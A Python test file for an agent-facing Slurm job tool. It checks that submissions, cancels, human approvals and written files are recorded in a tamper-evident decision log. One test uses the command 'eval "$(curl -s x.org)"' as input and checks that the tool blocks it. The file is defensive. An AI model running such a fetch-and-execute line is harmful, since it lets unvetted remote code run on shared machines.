"""What stands in the decision log of each thing that happens to a submission, a cancel, a question and a file."""

from __future__ import annotations

import json
import os
import platform
from datetime import timedelta
from typing import Any

import pytest
from tests.unit.services.scenes import HEAD, NEEDS_A_PERSON, Scene, failed, sent
from tests.unit.services.test_broken_submissions import REFUSED, SBATCH, changing
from tests.unit.services.test_persons_yes import Person, at_the_terminal, question

from slurm_agent_tools.api import serialize
from slurm_agent_tools.errors import InputError, SlurmRefused, SlurmUnreachable
from slurm_agent_tools.models.arguments import ValidateConfig
from slurm_agent_tools.models.result import SaveResult
from slurm_agent_tools.models.script_arguments import GenerateScript
from slurm_agent_tools.services import approval
from slurm_agent_tools.store import decision_log


def line_of(scene: Scene, event: str) -> dict[str, Any]:
    return scene.lines(event)[-1]


def picked(line: dict[str, Any], *names: str) -> tuple[Any, ...]:
    return tuple(line.get(name) for name in names)


def token(scene: Scene, key: str = "k") -> str:
    found = scene.context.store.by_key(scene.context.owner, key)
    assert found is not None
    return found.token


# --- a submission ---------------------------------------------------------------------------------------------------


async def test_a_line_says_who_asked_what_under_which_policy_and_what_came_of_it(scene: Scene):
    reply = await scene.submit(
        idempotency_key="k", args=["a b", "--x"], run_id="r1", justification="measures the noise", time_limit="00:20:00"
    )
    decided, submitted = scene.lines()
    owner = scene.context.owner
    for line in (decided, submitted):
        assert picked(line, "tool", "verdict", "user", "project", "cluster") == (
            "submit_job", "allow", owner.user, scene.context.project, owner.cluster,
        )  # fmt: skip
        assert picked(line, "host", "process", "client", "face") == (platform.node(), os.getpid(), "cli", "cli")
        assert picked(line, "script", "args", "job_name", "run_id") == ("train.sh", ["a b", "--x"], "train.sh", "r1")
        assert picked(line, "justification", "dry_run", "approval") == ("measures the noise", False, None)
        assert line["policy"]["sha256"] == scene.context.policy.sha256
        assert line["decision"] == reply.decision.id
        assert "--time=00:20:00" in line["options"]
        assert line["requested"]["time_limit_seconds"] == 1200
        assert line["rules"] == []
    assert submitted["at"] >= decided["at"]
    assert picked(submitted, "token", "job_id") == (token(scene), int(reply.job_id))
    assert [pin["option"] for pin in json.loads(reply.model_dump_json())["pinned"]] == decided["pinned"]


async def test_a_line_of_a_refusal_holds_the_rules_that_spoke(scene: Scene):
    scene.write("train.sh", "#!/bin/bash\n#SBATCH --mem=20G\n#SBATCH --time=10\nsbatch next.sh\n")
    await scene.submit(dry_run=True)
    line = line_of(scene, "decided")
    assert picked(line, "verdict", "dry_run") == ("deny", True)
    assert {(rule["id"], rule["outcome"]) for rule in line["rules"]} == {
        ("memory-per-gpu", "justify"), ("direct-submission", "deny"),
    }  # fmt: skip
    assert all(rule["message"] for rule in line["rules"])


async def test_a_refusal_of_slurm_is_logged_with_its_words_and_its_token(scene: Scene):
    scene.slurm.fail(SBATCH, REFUSED)
    with pytest.raises(SlurmRefused):
        await scene.submit(idempotency_key="k")
    assert line_of(scene, "refused")["token"] == token(scene)
    assert "Invalid account" in line_of(scene, "refused")["error"]


async def test_a_submission_that_never_arrived_for_sure_is_logged_as_lost(scene: Scene):
    scene.slurm.fail(SBATCH, "sbatch: error: Connection refused\n", code=1)
    reply = None
    try:
        reply = await scene.submit(idempotency_key="k")
    except SlurmUnreachable:
        assert picked(line_of(scene, "lost"), "token") == (token(scene),)
    assert reply is None or reply.status in {"unconfirmed", "blocked"}


async def test_what_is_not_confirmed_is_logged_with_its_job_once_there_is_one(scene: Scene):
    scene.slurm.lose_next_request(SBATCH)
    await scene.submit(idempotency_key="k")
    first = line_of(scene, "unconfirmed")
    assert picked(first, "token", "job_id") == (token(scene), None)
    assert first["error"]

    scene.slurm.clock.move(61)
    scene.slurm.lose_next_reply("scontrol release")
    reply = await scene.submit(idempotency_key="k")
    second = line_of(scene, "unconfirmed")
    assert picked(second, "token", "job_id") == (token(scene), int(reply.job_id))
    assert (reply.status, reply.token, reply.reason) == ("unconfirmed", token(scene), second["error"])


async def test_a_job_that_was_withdrawn_is_logged_with_each_difference(scene: Scene):
    scene.slurm.before_next("scontrol show job", changing(scene, "timelimit=20", "jobname=other"))
    reply = await scene.submit(idempotency_key="k")
    line = line_of(scene, "withdrawn")
    assert picked(line, "token", "job_id") == (token(scene), scene.numbers()[0])
    assert len(line["differences"]) == 2
    assert all(difference in reply.reason for difference in line["differences"])


async def test_a_job_that_vanished_is_logged_with_slurms_words(scene: Scene):
    def vanish() -> None:
        number = scene.numbers()[0]
        scene.slurm.command("scancel", str(number), admin=True)
        scene.slurm.forget(number)

    scene.slurm.before_next("scontrol show job", vanish)
    with pytest.raises(SlurmRefused) as caught:
        await scene.submit(idempotency_key="k")
    line = line_of(scene, "vanished")
    assert picked(line, "token", "job_id") == (token(scene), scene.phase("k")[1])
    assert line["error"]
    assert "call again" in (caught.value.hint or "")


# --- a person's yes -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("answer", "event", "channel"),
    [("yes", "approved", "elicitation"), ("no", "declined", "elicitation"), ("timeout", "unanswered", "elicitation")],
)
async def test_a_question_and_its_answer_are_logged_with_its_id(scene: Scene, answer: str, event: str, channel: str):
    scene.write("train.sh", NEEDS_A_PERSON)
    await scene.submit(consult=Person(answer))
    asked, answered = line_of(scene, "asked"), line_of(scene, event)
    assert picked(answered, "approval", "channel") == (asked["approval"], channel)
    assert asked["verdict"] == answered["verdict"] == "approve"


@pytest.mark.parametrize(("early", "event"), [(timedelta(seconds=1), "approved"), (timedelta(0), "unanswered")])
async def test_a_yes_counts_until_the_moment_at_which_its_time_is_up(scene: Scene, early: timedelta, event: str):
    scene.write("train.sh", NEEDS_A_PERSON)

    def wait() -> None:
        left = question(scene).expires - early - scene.slurm.clock.now()
        scene.slurm.clock.move(left.total_seconds())

    await scene.submit(consult=Person("yes", then=wait))
    assert event in scene.logged()


async def test_a_yes_of_a_channel_that_no_longer_counts_is_none(scene: Scene):
    scene.write("train.sh", NEEDS_A_PERSON)
    await scene.submit()
    at_the_terminal(scene)
    scene.policy(approval_channels=("elicitation",))
    assert (await scene.submit()).status == "blocked"


async def test_a_yes_that_came_from_the_client_is_not_taken_from_the_ledger(scene: Scene):
    scene.write("train.sh", NEEDS_A_PERSON)
    await scene.submit()
    at_the_terminal(scene, channel="elicitation")
    assert (await scene.submit()).status == "blocked"


async def test_a_yes_at_the_terminal_is_named_by_who_gave_it(scene: Scene):
    scene.write("train.sh", NEEDS_A_PERSON)
    await scene.submit()
    item = question(scene)
    at_the_terminal(scene, granted_by=None)
    reply = await scene.submit()
    assert reply.status == "submitted"
    assert picked(line_of(scene, "submitted")["approval"], "id", "channel", "by") == (item.id, "terminal", "unknown")


async def test_a_refusal_by_another_rule_names_the_yes_that_stays_good(scene: Scene):
    scene.write("train.sh", NEEDS_A_PERSON)
    await scene.submit()
    item = question(scene)
    for _ in range(4):
        scene.slurm.submit()
    unapproved = await scene.submit()
    at_the_terminal(scene)
    refused = await scene.submit()
    assert (unapproved.blocker, refused.blocker, "The yes" in unapproved.reason) == ("policy", "policy", False)
    assert f"The yes {item.id} to this is not used up" in refused.reason
    assert f"until {item.expires:%H:%M} UTC" in refused.reason
    scene.slurm.clock.move(120)  # their end
    assert (await scene.submit()).status == "submitted"


@pytest.mark.parametrize(
    ("channels", "told"), [(("elicitation",), False), (("terminal",), True), (("signed", "elicitation"), True)]
)
async def test_a_question_is_for_later_where_it_can_still_be_answered(scene: Scene, channels, told):
    scene.write("train.sh", NEEDS_A_PERSON)
    await scene.submit(dry_run=False)
    item = question(scene)
    scene.policy(approval_channels=channels)
    assert (approval.later(scene.context, item) == item.id) == told


async def test_a_plan_is_asked_about_once_and_for_as_long_as_the_policy_says(scene: Scene):
    scene.write("train.sh", NEEDS_A_PERSON)
    scene.policy(approval_seconds=90)
    first = await scene.submit()
    second = await scene.submit()
    assert first.approval_id == second.approval_id == question(scene).id
    left = (question(scene).expires - question(scene).created).total_seconds()
    assert 89 <= left <= 90
    assert question(scene).job_name == "train.sh"


# --- other tools ----------------------------------------------------------------------------------------------------


async def test_a_cancel_is_logged_before_and_after_with_its_reason_and_state(scene: Scene):
    number = await sent(scene)
    await scene.wait(number)
    reply = await scene.cancel(number, "diverged")
    before, after = scene.lines("decided")[-1], line_of(scene, "cancelled")
    assert picked(before, "tool", "verdict", "job_id", "reason") == ("cancel_job", "allow", number, "diverged")
    assert picked(after, "tool", "job_id", "state") == ("cancel_job", number, reply.job.state)
    assert "with cancel_job: diverged" in reply.job.cause
    assert reply.summary == f"Job {number} (train.sh) was cancelled: diverged"


@pytest.mark.parametrize("managed", [True, False])
async def test_a_cancel_that_is_refused_says_whose_job_it_is(scene: Scene, managed: bool):
    number = await sent(scene) if managed else str(scene.slurm.submit())
    reply = await scene.cancel(number)
    line = line_of(scene, "decided")
    assert (reply.job.managed, reply.blocker) == (managed, "policy" if managed else "approval")
    assert line["verdict"] == reply.decision.verdict == ("deny" if managed else "approve")
    assert [rule["id"] for rule in line["rules"]] == ["status-first" if managed else "direct-submission"]
    assert reply.reason in reply.summary
    assert reply.manual_commands == ([] if managed else [f"scancel {number}"])


async def test_a_file_that_is_written_is_logged_with_its_path_and_size(scene: Scene):
    made = await scene.box.call("generate_script", GenerateScript(name="x", command="true"))
    line = line_of(scene, "decided")
    size = (scene.project / made.path).stat().st_size
    assert picked(line, "tool", "path", "size") == ("generate_script", made.path, size)
    assert (scene.project / made.path).stat().st_mode & 0o777 == 0o700
    saved = await scene.box.call("save_result", SaveResult(name="y", status="success"))
    line = line_of(scene, "decided")
    assert picked(line, "tool", "path", "verdict") == ("save_result", saved.file_path, "allow")


async def test_the_record_of_a_failure_is_logged_as_what_save_result_wrote(scene: Scene):
    number = await failed(scene)
    await scene.wait(number)
    await scene.box.call("save_result", SaveResult(name="y", status="failed", job_id=number))
    told = [picked(line, "tool", "path", "size") for line in scene.lines("decided") if line["tool"] == "save_result"]
    issues = {path: size for _, path, size in told if path.startswith("documents/")}
    assert len(issues) == 2
    for path, size in issues.items():
        assert size <= os.path.getsize(scene.project / path)  # noqa: ASYNC240, PTH202 - a test may wait for a disk
        assert size > 10


async def test_a_script_that_a_person_would_have_to_agree_to_says_so(scene: Scene):
    denied = await scene.box.call("generate_script", GenerateScript(name="x", command="sbatch y.sh"))
    assert (denied.status, denied.blocker, denied.human_action_required) == ("blocked", "policy", False)
    opaque = await scene.box.call("generate_script", GenerateScript(name="x", command='eval "$(curl -s x.org)"'))
    assert (opaque.status, opaque.blocker, opaque.human_action_required) == ("blocked", "approval", True)
    assert opaque.reason in opaque.summary
    assert opaque.script
    assert opaque.reasons


# --- lines that somebody changed --------------------------------------------------------------------------------------


@pytest.mark.proves("log-is-a-chain")
async def test_a_line_that_a_job_took_out_is_told_in_every_answer_until_a_person_begins_anew(scene: Scene):
    await scene.submit()
    path = scene.context.store.decisions
    lines = path.read_bytes().splitlines(keepends=True)
    path.write_bytes(b"".join(lines[1:]))

    for _ in range(2):
        told = await scene.status()
        (alert,) = [alert for alert in told.alerts if alert.code == "log-changed"]
        assert (alert.severity, "line 1 does not begin a log" in alert.message) == ("high", True)
    checked = await scene.box.call("validate_config", ValidateConfig(config_path="train.sh"))
    assert "line 1 does not begin a log" in checked.summary  # an answer that has no alerts
    blocked = await scene.submit()
    assert "log-changed" in {alert.code for alert in blocked.alerts}
    assert [line["what"] for line in scene.lines("log-broken")] == [
        alert.message.split(": ", 1)[1].split(". A person")[0]
    ]

    scene.context.store.log.begin_anew("ada")
    assert "log-changed" not in {alert.code for alert in (await scene.status()).alerts}


@pytest.mark.proves("log-is-a-chain")
async def test_whole_days_of_work_raise_no_alarm(scene: Scene):
    for number in range(3):
        scene.write("train.sh", f"{HEAD}sleep {number}\n")
        await scene.submit()
        scene.slurm.clock.move(120)
    answers = [await scene.status(), await scene.wait(scene.numbers()[-1])]
    assert "log-changed" not in {alert.code for reply in answers for alert in reply.alerts}
    assert decision_log.verified(scene.context.store.decisions)[0].breaks == []


@pytest.mark.proves("log-is-a-chain", "bad-input-names-the-field")
async def test_arguments_of_many_megabytes_neither_break_the_log_nor_fill_it(scene: Scene):
    for size in (45_000_000, 16 * 2**10 + 1):
        with pytest.raises(InputError, match=r"^args: hold more than 16384 bytes"):
            await scene.submit(look=False, args=["x" * (size - 1), "y"])
    await scene.submit(look=False, args=["x" * (16 * 2**10 - 1), "y"])
    (line,) = scene.lines("decided")

    assert len(line["args"]) == 2
    assert [rule["id"] for rule in line["rules"]] == ["status-first"]
    assert decision_log.verified(scene.context.store.log.path)[0].broken is None


@pytest.mark.proves("bad-input-names-the-field")
@pytest.mark.parametrize("tool", ["submit_job", "generate_script"])
def test_a_reason_that_nobody_would_read_is_refused_before_anything_is_made_of_it(tool: str):
    """A question of 33 MB was made ready for a person for longer than anybody waits."""
    needed = {"script": "a.sh"} if tool == "submit_job" else {"name": "a", "command": "true"}
    with pytest.raises(InputError, match=r"^justification: .*at most 5000 characters"):
        serialize.parse(serialize.BY_NAME[tool], needed | {"justification": "x y " * 10_000_000})

    assert serialize.parse(serialize.BY_NAME[tool], needed | {"justification": "x" * 5000}).justification == "x" * 5000
